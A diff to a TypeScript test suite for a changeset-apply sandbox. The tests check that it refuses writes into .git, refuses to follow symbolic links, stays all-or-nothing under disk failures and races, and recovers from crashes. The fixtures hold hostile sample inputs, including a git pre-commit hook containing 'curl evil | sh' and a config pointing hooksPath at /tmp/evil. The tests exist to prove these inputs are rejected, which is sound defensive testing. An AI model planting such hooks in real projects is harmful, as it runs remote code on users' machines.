@@ -12,16 +12,19 @@ import {
   writeFile,
   chmod,
 } from 'node:fs/promises';
+import { existsSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 
 import type { Changeset, ChangesetProject, FileChange } from '../../domain/changeset';
 import { sha256 } from '../../lib/sha256';
-import { ChangesetRefusedError, applyChangeset, validateChangeset } from '../../sandbox/apply';
+import type { ApplyFileSystem } from '../../sandbox/apply';
+import { ChangesetRefusedError, NODE_FS, applyChangeset, validateChangeset } from '../../sandbox/apply';
 
 const PROJECT = 'local/demo';
 const AT = '2030-01-02T03:04:05.000Z';
-const TEMP_FILE = /\.cleveragents-.*\.tmp$/;
+/** Apply's temp files (`.ca-<24 hex>.tmp`), and any other `.tmp` a writer could leave. */
+const TEMP_FILE = /\.tmp$/;
 
 /** A temp area holding the project root and a sibling directory Apply must never touch. */
 let area: string;
@@ -392,7 +395,12 @@ describe('applyChangeset: overlapping project roots', () => {
     await symlink(docs, path.join(root, 'alias'));
     const cs = withReadOnly([await modify('alias/readme.md', 'overwritten\n')]);
     const problems = await expectRefused(cs);
-    expect(problems).toEqual([expect.stringMatching(intrusion('MODIFY', 'alias/readme\\.md'))]);
+    // Refused as a link before the read-only roots are even compared: Apply follows no link at all.
+    expect(problems).toEqual([
+      expect.stringMatching(
+        /^local\/demo: MODIFY "alias\/readme\.md": "alias" is a symbolic link; Apply does not follow it$/,
+      ),
+    ]);
   });
 
   it.each<[string, () => string]>([
@@ -508,18 +516,6 @@ describe('applyChangeset: success', () => {
     expect(tempFilesIn(tree)).toEqual([]);
   });
 
-  it('writes through a directory symlink that stays inside the root', async () => {
-    await put('real/a.txt', 'old\n');
-    await symlink(path.join(root, 'real'), path.join(root, 'alias'));
-    const cs = changeset([await modify('alias/a.txt', 'new\n')]);
-
-    const result = await applyChangeset(cs, { at: AT });
-
-    expect(result.modified).toBe(1);
-    expect((await current('real/a.txt')).toString()).toBe('new\n');
-    expect((await lstat(path.join(root, 'alias'))).isSymbolicLink()).toBe(true);
-  });
-
   it('applies an empty changeset', async () => {
     const before = await snapshot(area);
     const result = await applyChangeset(changeset([]), { at: AT });
@@ -533,5 +529,358 @@ describe('applyChangeset: success', () => {
       appliedAt: AT,
     });
     expect(await snapshot(area)).toEqual(before);
+  });
+});
+
+/** One hash of a whole tree (every path, type, content hash, mode and link target): equal means nothing changed. */
+async function treeHash(dir: string): Promise<string> {
+  return sha256(JSON.stringify(await snapshot(dir)));
+}
+
+/** A project that is a git checkout: its `.git` holds config and a hooks directory, as a real one does. */
+async function withGitDirectory(): Promise<void> {
+  await put('.git/config', '[core]\n\tbare = false\n');
+  await put('.git/HEAD', 'ref: refs/heads/main\n');
+  await put('.git/hooks/pre-commit.sample', '#!/bin/sh\n', 0o755);
+  await put('src/a.ts', 'export const a = 1;\n');
+}
+
+/** What Apply throws (or undefined when it succeeds). */
+async function applyError(cs: Changeset, fs?: ApplyFileSystem): Promise<unknown> {
+  return applyChangeset(cs, { at: AT, ...(fs === undefined ? {} : { fs }) }).then(
+    () => undefined,
+    (e: unknown) => e,
+  );
+}
+
+const errno = (code: string): NodeJS.ErrnoException =>
+  Object.assign(new Error(`${code}: injected by the test`), { code });
+
+/** A CJK name of `chars` characters, 3 bytes each in UTF-8. */
+const cjk = (chars: number): string => '漢'.repeat(chars);
+
+describe('applyChangeset: git metadata and links inside the project', () => {
+  beforeEach(withGitDirectory);
+
+  it.each([
+    ['CREATE ".GIT/config"', (): FileChange => create('.GIT/config', '[core]\n\thooksPath = /tmp/evil\n')],
+    ['CREATE ".git./hooks/x"', (): FileChange => create('.git./hooks/x', '#!/bin/sh\nevil\n')],
+    ['CREATE "git~1/config"', (): FileChange => create('git~1/config', '[core]\n')],
+    ['CREATE ".Git /HEAD"', (): FileChange => create('.Git /HEAD', 'ref: refs/heads/evil\n')],
+    ['CREATE "src/.git/config"', (): FileChange => create('src/.git/config', '[core]\n')],
+  ])('refuses %s, a name for .git, at validation', async (_what, make) => {
+    const before = await treeHash(root);
+    const problems = await expectRefused(changeset([make()]));
+    expect(problems).toEqual([
+      expect.stringMatching(/that names git's directory "\.git"; changes never touch it$/),
+    ]);
+    expect(await treeHash(root)).toBe(before);
+  });
+
+  it('refuses a MODIFY of .git/HEAD and a MOVE of .git/config, whatever else the changeset holds', async () => {
+    const before = await treeHash(root);
+    const config = await current('.git/config');
+    const cs = changeset([
+      create('ok.txt', 'fine\n'),
+      change({
+        operation: 'MOVE',
+        path: 'config.bak',
+        fromPath: '.git/config',
+        beforeHash: sha256(config),
+        afterHash: sha256(config),
+      }),
+      await modify('.git/HEAD', 'ref: refs/heads/evil\n'),
+    ]);
+    const problems = await expectRefused(cs);
+    expect(problems).toEqual([
+      expect.stringMatching(/^local\/demo: MODIFY "\.git\/HEAD": .*names git's directory/),
+      expect.stringMatching(
+        /^local\/demo: MOVE "\.git\/config" -> "config\.bak": source: .*names git's directory/,
+      ),
+    ]);
+    expect(await treeHash(root)).toBe(before);
+  });
+
+  it('refuses CREATE hooks/pre-commit when hooks is a link to .git/hooks (a link staying inside the project)', async () => {
+    await symlink('.git/hooks', path.join(root, 'hooks'));
+    const before = await treeHash(root);
+    const problems = await expectRefused(
+      changeset([create('hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n')]),
+    );
+    expect(problems).toEqual([
+      'local/demo: CREATE "hooks/pre-commit": "hooks" is a symbolic link; Apply does not follow it',
+    ]);
+    expect(await treeHash(root)).toBe(before);
+    expect(await lstat(path.join(root, '.git/hooks/pre-commit')).catch(() => null)).toBeNull();
+  });
+
+  it('refuses MODIFY docs/a.ts when docs is a link to src (it used to be written through)', async () => {
+    await symlink('src', path.join(root, 'docs'));
+    const before = await treeHash(root);
+    const problems = await expectRefused(changeset([await modify('docs/a.ts', 'export const a = 2;\n')]));
+    expect(problems).toEqual([
+      'local/demo: MODIFY "docs/a.ts": "docs" is a symbolic link; Apply does not follow it',
+    ]);
+    expect(await treeHash(root)).toBe(before);
+  });
+
+  it('refuses a link deeper on the way, and a MOVE whose source lies behind one', async () => {
+    await mkdir(path.join(root, 'pkg'));
+    await symlink('../src', path.join(root, 'pkg', 'lib'));
+    const before = await treeHash(root);
+    const problems = await expectRefused(
+      changeset([create('pkg/lib/b.ts', 'b\n'), await move('pkg/lib/a.ts', 'moved.ts')]),
+    );
+    expect(problems).toHaveLength(2);
+    for (const problem of problems)
+      expect(problem).toMatch(/"pkg\/lib" is a symbolic link; Apply does not follow it$/);
+    expect(await treeHash(root)).toBe(before);
+  });
+
+  it('refuses a name reserved for its own temp files (a retried Apply would remove it)', async () => {
+    const problems = await expectRefused(changeset([create('src/.ca-0123456789abcdef01234567.tmp', 'x\n')]));
+    expect(problems).toEqual([expect.stringMatching(/named like one of Apply's temp files/)]);
+  });
+});
+
+describe('applyChangeset: all or nothing', () => {
+  it('writes a 243-byte CJK name as the second of three CREATEs (temp names do not grow with the name)', async () => {
+    const long = `${cjk(81)}`;
+    expect(Buffer.byteLength(long)).toBe(243);
+    const cs = changeset([create('a.txt', 'a\n'), create(`dir/${long}`, 'long\n'), create('z.txt', 'z\n')]);
+
+    const result = await applyChangeset(cs, { at: AT });
+
+    expect(result.created).toBe(3);
+    expect((await current(`dir/${long}`)).toString()).toBe('long\n');
+    expect((await current('z.txt')).toString()).toBe('z\n');
+    expect(tempFilesIn(await snapshot(root))).toEqual([]);
+  });
+
+  it('refuses a name too long for the filesystem in a new directory, found only in stage 1, writing nothing', async () => {
+    await put('keep.txt', 'keep\n');
+    const tooLong = cjk(86);
+    expect(Buffer.byteLength(tooLong)).toBe(258);
+    const cs = changeset([
+      create('a.txt', 'a\n'),
+      create(`b/${cjk(81)}`, 'fits\n'),
+      await modify('keep.txt', 'kept?\n'),
+      create(`new/deeper/${tooLong}`, 'too long\n'),
+    ]);
+    // Validation cannot see it: the directory does not exist yet, so there is no name to look up.
+    expect(await validateChangeset(cs)).toEqual([]);
+    const before = await treeHash(area);
+
+    const error = await applyError(cs);
+
+    expect(error).toBeInstanceOf(ChangesetRefusedError);
+    expect((error as ChangesetRefusedError).problems).toEqual([
+      expect.stringMatching(
+        /^local\/demo: CREATE "new\/deeper\/漢+": a name in .* is too long for this filesystem/,
+      ),
+    ]);
+    expect(await treeHash(area)).toBe(before);
+    expect(tempFilesIn(await snapshot(area))).toEqual([]);
+  });
+
+  it('removes every temp file and directory when a write fails in stage 1 (a full disk)', async () => {
+    await put('keep.txt', 'keep\n');
+    await put('gone.txt', 'gone\n');
+    const cs = changeset([
+      create('a/b/new.txt', 'new\n'),
+      await remove('gone.txt'),
+      await modify('keep.txt', 'kept?\n'),
+      create('z/new.txt', 'never\n'),
+    ]);
+    const before = await treeHash(area);
+    let opened = 0;
+    const fullDisk: ApplyFileSystem = {
+      ...NODE_FS,
+      open: async (file, flags, mode) => {
+        const handle = await NODE_FS.open(file, flags, mode);
+        if (++opened < 3) return handle;
+        // The temp file exists, as on a real full disk: the write fails, not the open.
+        return {
+          writeFile: () => Promise.reject(errno('ENOSPC')),
+          chmod: (m) => handle.chmod(m),
+          sync: () => handle.sync(),
+          close: () => handle.close(),
+        };
+      },
+    };
+
+    const error = await applyError(cs, fullDisk);
+
+    expect(error).toBeInstanceOf(Error);
+    expect(error).not.toBeInstanceOf(ChangesetRefusedError);
+    expect((error as Error).message).toMatch(
+      /^Apply wrote nothing of changeset cs-1 \(every temp file and directory it made is removed\): local\/demo: MODIFY "keep\.txt": ENOSPC/,
+    );
+    expect(opened).toBe(3);
+    expect(await treeHash(area)).toBe(before);
+    expect(tempFilesIn(await snapshot(area))).toEqual([]);
+  });
+
+  it('refuses, writing nothing, when a file is rewritten with the same bytes between the two stages', async () => {
+    await put('a.txt', 'old\n');
+    const cs = changeset([await modify('a.txt', 'new\n'), create('b.txt', 'b\n')]);
+    let opened = 0;
+    const editor: ApplyFileSystem = {
+      ...NODE_FS,
+      open: async (file, flags, mode) => {
+        const handle = await NODE_FS.open(file, flags, mode);
+        if (++opened === 2) await writeFile(path.join(root, 'a.txt'), 'old\n');
+        return handle;
+      },
+    };
+    const before = await treeHash(area);
+
+    const error = await applyError(cs, editor);
+
+    expect(error).toBeInstanceOf(ChangesetRefusedError);
+    expect((error as ChangesetRefusedError).problems).toEqual([
+      'local/demo: MODIFY "a.txt": "a.txt" changed while Apply ran; re-run Execute',
+    ]);
+    // The user's rewrite left the same bytes and mode, so the tree is as it was: Apply itself wrote nothing.
+    expect(await treeHash(area)).toBe(before);
+  });
+
+  describe('a directory swapped for a link to .git/hooks while Apply runs', () => {
+    beforeEach(async () => {
+      await withGitDirectory();
+      await put('hooks/README.md', 'our hooks\n');
+    });
+
+    /** Moves the project's real `hooks` away and plants `hooks -> .git/hooks` in its place. */
+    async function swap(): Promise<void> {
+      await rename(path.join(root, 'hooks'), path.join(root, 'hooks-moved'));
+      await symlink('.git/hooks', path.join(root, 'hooks'));
+    }
+
+    it('between the stages: refused before the first write, its temp file removed from where the directory went', async () => {
+      const gitBefore = await treeHash(path.join(root, '.git'));
+      const cs = changeset([create('hooks/pre-commit', '#!/bin/sh\nevil\n'), create('z.txt', 'z\n')]);
+      let opened = 0;
+      const attacker: ApplyFileSystem = {
+        ...NODE_FS,
+        open: async (file, flags, mode) => {
+          const handle = await NODE_FS.open(file, flags, mode);
+          if (++opened === 2) await swap();
+          return handle;
+        },
+      };
+
+      const error = await applyError(cs, attacker);
+
+      expect(error).toBeInstanceOf(ChangesetRefusedError);
+      expect((error as ChangesetRefusedError).problems).toEqual([
+        expect.stringMatching(
+          /^local\/demo: CREATE "hooks\/pre-commit": the directory ".*\/hooks" changed while it was in use .*; Apply does not follow a link or a moved directory$/,
+        ),
+      ]);
+      expect(await treeHash(path.join(root, '.git'))).toBe(gitBefore);
+      const tree = await snapshot(root);
+      expect(tempFilesIn(tree)).toEqual([]);
+      expect(Object.keys(tree).filter((name) => name.startsWith('hooks-moved/'))).toEqual([
+        'hooks-moved/README.md',
+      ]);
+      expect(tree['z.txt']).toBeUndefined();
+    });
+
+    (existsSync('/proc/self/fd') ? it : it.skip)(
+      'right before the rename (after every check): the file still lands in the directory Apply checked',
+      async () => {
+        const gitBefore = await treeHash(path.join(root, '.git'));
+        const cs = changeset([create('hooks/pre-commit', '#!/bin/sh\nfine\n')]);
+        const attacker: ApplyFileSystem = {
+          ...NODE_FS,
+          rename: async (from, to) => {
+            await swap();
+            await NODE_FS.rename(from, to);
+          },
+        };
+
+        await applyChangeset(cs, { at: AT, fs: attacker });
+
+        // The rename went through the descriptor of the directory Apply had checked, not through the new link.
+        expect(await treeHash(path.join(root, '.git'))).toBe(gitBefore);
+        expect((await current('hooks-moved/pre-commit')).toString()).toBe('#!/bin/sh\nfine\n');
+        expect(tempFilesIn(await snapshot(root))).toEqual([]);
+      },
+    );
+  });
+});
+
+describe('applyChangeset: a crash between the two stages', () => {
+  it('leaves only temp files, and a retried Apply removes them and finishes', async () => {
+    await put('keep.txt', 'keep\n');
+    await put('run.sh', '#!/bin/sh\necho old\n', 0o755);
+    await put('del/gone.txt', 'gone\n');
+    await put('old/name.txt', 'moving\n', 0o600);
+    const cs = changeset([
+      create('new/deep/file.txt', 'created\n'),
+      await modify('run.sh', '#!/bin/sh\necho new\n'),
+      await remove('del/gone.txt'),
+      await move('old/name.txt', 'renamed/here/name.txt'),
+    ]);
+    const before = await snapshot(root);
+
+    // The first write of stage 2 (a rename or unlink of a project file) never returns, as if the worker died
+    // there; the test lets it fail later.
+    let crashed!: () => void;
+    const reachedStage2 = new Promise<void>((resolve) => {
+      crashed = resolve;
+    });
+    let wakeUp!: (error: Error) => void;
+    const hang = (): Promise<void> => {
+      crashed();
+      return new Promise<void>((_resolve, reject) => {
+        wakeUp = reject;
+      });
+    };
+    const isTemp = (file: string): boolean => /\.ca-[0-9a-f]{24}\.tmp$/.test(file);
+    const dying: ApplyFileSystem = {
+      ...NODE_FS,
+      rename: (from, to) => (isTemp(to) ? NODE_FS.rename(from, to) : hang()),
+      unlink: (file) => (isTemp(file) ? NODE_FS.unlink(file) : hang()),
+    };
+    const zombie = applyChangeset(cs, { at: AT, fs: dying }).then(
+      () => undefined,
+      (e: unknown) => e,
+    );
+    await reachedStage2;
+
+    const crashedTree = await snapshot(root);
+    // Every original file is as it was; stage 1 left one temp file per change and the new directories.
+    for (const [name, entry] of Object.entries(before)) expect(crashedTree[name]).toEqual(entry);
+    expect(tempFilesIn(crashedTree)).toHaveLength(4);
+
+    const result = await applyChangeset(cs, { at: AT });
+
+    expect(result).toEqual({
+      changesetId: 'cs-1',
+      created: 1,
+      modified: 1,
+      deleted: 1,
+      moved: 1,
+      alreadyApplied: 0,
+      appliedAt: AT,
+    });
+    const tree = await snapshot(root);
+    expect(tempFilesIn(tree)).toEqual([]);
+    expect(tree['new/deep/file.txt']).toEqual({
+      type: 'file',
+      sha: sha256('created\n'),
+      mode: expect.any(Number),
+    });
+    expect(tree['run.sh']).toEqual({ type: 'file', sha: sha256('#!/bin/sh\necho new\n'), mode: 0o755 });
+    expect(tree['del/gone.txt']).toBeUndefined();
+    expect(tree['old/name.txt']).toBeUndefined();
+    expect(tree['renamed/here/name.txt']).toEqual({ type: 'file', sha: sha256('moving\n'), mode: 0o600 });
+
+    // The first attempt waking up afterwards (a worker that was only slow) removes only what is its own.
+    wakeUp(errno('EIO'));
+    expect(await zombie).toBeInstanceOf(Error);
+    expect(await snapshot(root)).toEqual(tree);
   });
 });
